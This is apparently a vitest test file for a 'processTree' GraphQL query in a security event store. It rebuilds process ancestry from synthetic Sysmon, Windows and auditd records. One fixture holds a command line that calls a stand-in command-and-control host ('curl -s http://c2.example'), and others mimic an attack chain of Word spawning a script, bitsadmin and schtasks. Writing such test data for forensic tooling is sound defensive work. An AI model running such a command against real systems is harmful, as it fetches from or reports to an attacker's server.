import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Event, Fields } from '#core/event/event'
import { insertEvents } from '#core/store/insert-events'
import { type GraphqlWorld, graphqlWorld } from '../../../e2e/testkit/graphql-world.ts'
import { encodeGlobalId } from '../global-id.ts'

const NOON = Date.UTC(2026, 0, 31, 12)
const at = (seconds: number) => BigInt(NOON + seconds * 1_000) * 1_000_000n

const sysmon = (entity: string, parent: string, pid: number, parentPid: number): Fields => ({
  'event.category': ['process'],
  'event.type': ['start'],
  'host.name': 'ws-9',
  'process.entity_id': entity,
  'process.parent.entity_id': parent,
  'process.pid': pid,
  'process.parent.pid': parentPid,
  'process.executable': entity,
})
const security = (code: string, pid: number, parentPid?: number, executable = ''): Fields => ({
  'event.provider': 'Microsoft-Windows-Security-Auditing',
  'event.code': code,
  'host.name': 'srv-2',
  'process.pid': pid,
  ...(parentPid !== undefined && { 'process.parent.pid': parentPid }),
  ...(executable !== '' && { 'process.executable': executable }),
})
const execve = (pid: number, parentPid: number, executable: string): Fields => ({
  'event.dataset': 'auditd.log',
  'event.action': 'executed',
  'host.name': 'web',
  'process.pid': pid,
  'process.parent.pid': parentPid,
  'process.executable': executable,
})

const beside = (type: string, sequence: number, commandLine: string): Fields => ({
  'event.dataset': 'auditd.log',
  'auditd.log.record_type': type,
  'event.sequence': sequence,
  'host.name': 'web',
  'process.command_line': commandLine,
})

/** In the order of arrival, which is not that of time. */
const lines: readonly (readonly [name: string, seconds: number, fields: Fields])[] = [
  // Of the script the clock was set back: by id it is still what word started.
  ['start of script', -500, sysmon('script', 'word', 30, 20)],
  ['connection', 50, { 'host.name': 'ws-9', 'process.entity_id': 'script', 'process.pid': 30 }],
  ['start of word', 10, sysmon('word', 'explorer', 20, 10)],
  ['start of explorer', -80_000, sysmon('explorer', 'gone', 10, 4)],
  ['start of impostor', 20, sysmon('impostor', 'explorer', 20, 10)],
  ['end of script', 60, { ...sysmon('script', 'word', 30, 20), 'event.type': ['end'] }],
  // Pid 7 is used three times; the second holder had ended when the orphan began.
  ['orphan', 400, security('4688', 9, 7, 'orphan')],
  ['second', 100, security('4688', 7, 1, 'second')],
  ['end of second', 300, security('4689', 7)],
  ['first', 0, security('4688', 7, 1, 'first')],
  ['child of first', 50, security('4688', 8, 7, 'child of first')],
  ['child of second', 200, security('4688', 11, 7, 'child of second')],
  ['third', 500, security('4688', 7, 1, 'third')],
  ['logon', 210, security('4624', 11)],
  ['shell', 0, { ...execve(100, 1, '/bin/bash'), 'event.sequence': 1 }],
  ['tool', 5, { ...execve(101, 100, '/usr/bin/curl'), 'event.sequence': 2 }],
  ['arguments of another call', 5, beside('EXECVE', 3, 'curl elsewhere')],
  ['title of tool', 5, beside('PROCTITLE', 2, 'curl -s')],
  ['arguments of tool', 5, beside('EXECVE', 2, 'curl -s http://c2.example')],
  [
    'start of bitsadmin',
    600,
    { ...sysmon('bitsadmin', 'unseen', 40, 39), 'process.parent.executable': 'cmd' },
  ],
  ['start of schtasks', 610, { ...security('4688', 41, 40, 'schtasks'), 'host.name': 'ws-9' }],
  ['service', 620, { ...security('4688', 42, 4, 'service'), 'process.parent.name': 'services' }],
  ['nothing', 5, { 'user.name': 'anna' }],
]

let world: GraphqlWorld
let ours: string
let theirs: string
const events: Event[] = []

beforeAll(async () => {
  world = await graphqlWorld()
  for (const { tenantId } of [world.ours, world.theirs]) {
    const sourceId = randomUUID()
    const isOurs = tenantId === world.ours.tenantId
    const stored = lines.map(([raw, seconds, said], position): Event => {
      const fields =
        isOurs || !said['process.command_line'] ? said : { ...said, 'process.command_line': 'theirs' }
      const eventId = `0190d000-0000-7000-8000-${String(position).padStart(12, '0')}`
      const ids = { eventId, tenantId, sourceId, site: '', payloadId: randomUUID(), position }
      return { ...ids, received: NOON, time: at(seconds), raw, parser: 'test@1', backfill: false, fields }
    })
    await insertEvents(world.store, randomUUID(), stored)
    if (isOurs) events.push(...stored)
  }
  ours = await world.token('ours')
  theirs = await world.token('theirs')
})
afterAll(() => world.close())

interface Tree {
  nodes: {
    level: number
    parent: number | null
    executable: string
    event: { raw: string; tenant: object } | null
  }[]
  truncated: boolean
}

const QUERY = `query($event: ID!, $up: Int, $down: Int, $first: Int) {
  processTree(event: $event, up: $up, down: $down, first: $first) {
    nodes { parent level pid entityId executable commandLine started ended event { raw tenant { slug } } }
    truncated stats { rowsRead } } }`

function ask(name: string, bounds: object = {}, token = ours) {
  const { tenantId, eventId: id, time } = events.find(({ raw }) => raw === name) as Event
  return world.ask(token, QUERY, { event: encodeGlobalId({ type: 'Event', tenantId, id, time }), ...bounds })
}

async function treeOf(name: string, bounds: object = {}): Promise<string[]> {
  const { data, errors } = await ask(name, bounds)
  expect(errors).toBeUndefined()
  const { nodes } = (data as { processTree: Tree }).processTree
  return nodes.map(({ level, parent, executable }) =>
    [level, executable, ...(parent === null ? [] : ['<', nodes[parent]?.executable])].join(' '),
  )
}

describe('processTree', () => {
  it('goes by ids, whatever order lines came in and whatever their clocks say', async () => {
    expect(await treeOf('connection')).toEqual(['-2 explorer', '-1 word < explorer', '0 script < word'])
    expect(await treeOf('start of explorer')).toEqual([
      '0 explorer',
      '1 word < explorer',
      '1 impostor < explorer',
      '2 script < word',
    ])
  })

  it('goes by pids where there are no ids, though they are used again', async () => {
    expect(await treeOf('first')).toEqual(['0 first', '1 child of first < first'])
    expect(await treeOf('logon')).toEqual(['-1 second', '0 child of second < second'])
    expect(await treeOf('orphan')).toEqual(['0 orphan'])
    expect(await treeOf('third')).toEqual(['0 third'])
    expect(await treeOf('tool')).toEqual(['-1 /bin/bash', '0 /usr/bin/curl < /bin/bash'])
  })

  it('tells of a parent that is only named by its child', async () => {
    expect(await treeOf('start of schtasks')).toEqual([
      '-2 cmd',
      '-1 bitsadmin < cmd',
      '0 schtasks < bitsadmin',
    ])
    expect(await treeOf('service')).toEqual(['-1 services', '0 service < services'])
    expect((await ask('start of bitsadmin')).data).toMatchObject({
      processTree: {
        nodes: [{ pid: 39, entityId: 'unseen', started: null, event: null, commandLine: null }, {}, {}],
      },
    })
    expect(await treeOf('start of schtasks', { up: 1 })).toEqual(['-1 bitsadmin', '0 schtasks < bitsadmin'])
  })

  it('tells when each ran, with the event that says so', async () => {
    expect((await ask('connection', { up: 0 })).data).toMatchObject({
      processTree: {
        nodes: [
          {
            ...{ parent: null, level: 0, pid: 30, entityId: 'script' },
            ...{ started: '2026-01-31T11:51:40.000Z', ended: '2026-01-31T12:01:00.000Z' },
            event: { raw: 'start of script', tenant: { slug: 'ours' } },
          },
        ],
        truncated: true,
      },
    })
  })

  it('takes command lines from the records beside those of auditd', async () => {
    const { data } = await ask('tool')
    expect(data).toMatchObject({
      processTree: { nodes: [{ commandLine: null }, { commandLine: 'curl -s http://c2.example' }] },
    })
  })

  it('takes the process of a record of auditd that names none from the call beside it', async () => {
    const tree = ['-1 /bin/bash', '0 /usr/bin/curl < /bin/bash']
    expect(await treeOf('arguments of tool')).toEqual(tree)
    expect(await treeOf('title of tool')).toEqual(tree)
    expect((await ask('arguments of tool')).data).toMatchObject({
      processTree: { nodes: [{}, { event: { raw: 'tool', tenant: { slug: 'ours' } } }] },
    })
    expect((await ask('arguments of another call')).errors?.[0]?.extensions.code).toBe('BAD_USER_INPUT')
  })

  it('is of the tenant of its event alone', async () => {
    const { data } = await ask('start of explorer')
    const { nodes } = (data as { processTree: Tree }).processTree
    expect(nodes).toHaveLength(4)
    for (const node of nodes) expect(node.event?.tenant).toEqual({ slug: 'ours' })
    expect((await ask('start of explorer', {}, theirs)).data).toEqual({ processTree: null })
  })

  it('finds ancestors beyond the many starts of a busy host', async () => {
    const { tenantId } = world.ours
    const sourceId = randomUUID()
    const busy = (raw: string, seconds: number, pid: number, parentPid: number, position: number): Event => {
      const fields = { ...execve(pid, parentPid, raw), 'host.name': 'busy' }
      const ids = { eventId: randomUUID(), tenantId, sourceId, site: '', payloadId: randomUUID(), position }
      return { ...ids, received: NOON, time: at(seconds), raw, parser: 'test@1', backfill: false, fields }
    }
    const line = [
      busy('init', -9_000, 1, 0, 0),
      busy('older', -8_990, 2, 1, 1),
      busy('cron', -8_980, 2, 1, 2),
      busy('job', 0, 3, 2, 3),
    ]
    const others = Array.from({ length: 10_100 }, (_, n) =>
      busy('other', n / 10 - 1_500, 1_000 + n, 999, 4 + n),
    )
    await insertEvents(world.store, randomUUID(), [...line, ...others])
    events.push(...line)
    expect(await treeOf('job')).toEqual(['-2 init', '-1 cron < init', '0 job < cron'])
  })

  it('is bounded', async () => {
    expect(await treeOf('start of explorer', { down: 1, first: 2 })).toEqual([
      '0 explorer',
      '1 word < explorer',
    ])
    for (const bounds of [{ up: 21 }, { down: 4 }, { first: 501 }, { first: 0 }])
      expect((await ask('first', bounds)).errors?.[0]?.extensions.code).toBe('BAD_USER_INPUT')
    expect((await ask('nothing')).errors?.[0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT' } })
  })
})
